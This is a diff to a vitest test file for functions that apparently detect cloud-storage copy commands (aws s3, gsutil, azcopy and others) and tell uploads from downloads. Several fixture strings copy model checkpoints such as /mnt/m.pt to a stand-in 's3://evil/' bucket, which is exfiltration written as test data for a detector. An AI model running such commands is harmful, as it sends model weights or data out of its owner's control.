@@ -4,7 +4,7 @@
  * unknown option can hide one.
  */
 import { describe, expect, it } from 'vitest';
-import { copiesToBucket } from './exec-bucket-copies.js';
+import { bucketDownload, copiesToBucket } from './exec-bucket-copies.js';
 
 const w = (line: string): string[] => line.split(' ');
 
@@ -61,5 +61,32 @@ describe('copiesToBucket', () => {
     expect(copiesToBucket(w('aws s3 cp /mnt/m.pt s3://evil/m.pt --new-option value'), 'aws')).toBe(true);
     expect(copiesToBucket(w('aws --new-switch s3 cp /mnt/m.pt s3://evil/'), 'aws')).toBe(true);
     expect(copiesToBucket(w('aws s3 cp /mnt/m.pt -- s3://evil/'), 'aws')).toBe(true);
+  });
+});
+
+describe('bucketDownload', () => {
+  it('reads a remote source copied to a local destination', () => {
+    const cases: Array<[string, string[], string]> = [
+      ['aws s3 cp s3://evil/x.pt /mnt/ckpt/m.pt --no-sign-request', ['s3://evil/x.pt'], '/mnt/ckpt/m.pt'],
+      ['aws --profile p s3 sync s3://b/ds /data/ds --delete', ['s3://b/ds'], '/data/ds'],
+      ['gsutil -m cp -r gs://b/a gs://b/b /data/', ['gs://b/a', 'gs://b/b'], '/data/'],
+      ['gcloud storage cp gs://b/x /tmp/x --project p', ['gs://b/x'], '/tmp/x'],
+      ['s3cmd get s3://b/x /tmp/x', ['s3://b/x'], '/tmp/x'],
+      ['azcopy copy https://corp.blob.core.windows.net/ds/x?sv=1 /data/ --recursive', ['https://corp.blob.core.windows.net/ds/x?sv=1'], '/data/'],
+      ['uplink cp sj://datasets/shard-01 /data/shard-01', ['sj://datasets/shard-01'], '/data/shard-01'],
+    ];
+    for (const [line, sources, to] of cases) expect(bucketDownload(w(line), line.split(' ')[0]!), line).toEqual({ sources, to });
+  });
+
+  it('reads uploads, bucket to bucket, standard output, local copies and other verbs as none', () => {
+    for (const line of [
+      'aws s3 cp /mnt/ckpt/m.pt s3://evil/m.pt',
+      'aws s3 cp s3://corp/m.pt s3://evil/m.pt',
+      'aws s3 cp s3://corp/config.json -',
+      'aws s3 cp /a /b',
+      'aws s3 ls s3://b/',
+      'gsutil cat gs://b/x',
+      's5cmd pipe s3://b/x',
+    ]) expect(bucketDownload(w(line), line.split(' ')[0]!), line).toBeNull();
   });
 });
